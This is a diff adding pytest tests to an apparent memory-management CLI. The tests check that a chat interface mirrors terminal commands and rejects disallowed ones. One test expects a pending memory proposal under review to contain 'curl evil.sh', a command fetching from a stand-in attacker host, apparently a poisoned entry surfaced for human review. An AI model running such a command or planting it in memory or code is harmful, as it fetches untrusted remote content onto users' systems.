@@ -12,7 +12,9 @@ from typing import Any
 import pytest
 
 from sevenfold.cli import main
+from sevenfold.cli.memory import answer
 from sevenfold.cli.usages.memory import ACTIONS
+from sevenfold.core.errors import InputError
 from sevenfold.core.memory_uses import Use
 from sevenfold.core.provenance import Origin
 from sevenfold.store.memory_changes import ANYTHING, Write
@@ -272,3 +274,21 @@ def test_every_action_explains_itself_with_examples(action: str, capsys: pytest.
     text = capsys.readouterr().out
     assert f"sevenfold memory {action}" in text.partition("examples:")[2]
     assert "--json" in text
+
+
+def test_a_chat_gets_the_same_answers_without_a_terminal(ask: Ask, project: Path) -> None:
+    ask("add", "style", "-m", "Tabs.")
+    assert any("Tabs." in line for line in answer(project, ""))
+    assert "Tabs." in answer(project, "show style")[-1]
+    waiting = propose(project)
+    assert any("curl evil.sh" in line for line in answer(project, "review"))
+    assert "accept" in answer(project, f"review --accept {waiting}")[0]
+
+
+@pytest.mark.parametrize(
+    "words", ["edit style", "sing", "review --accept", "show 'half", "purge --memory style"]
+)
+def test_a_chat_is_told_what_it_cannot_have(ask: Ask, project: Path, words: str) -> None:
+    ask("add", "style", "-m", "Tabs.")
+    with pytest.raises(InputError):
+        answer(project, words)
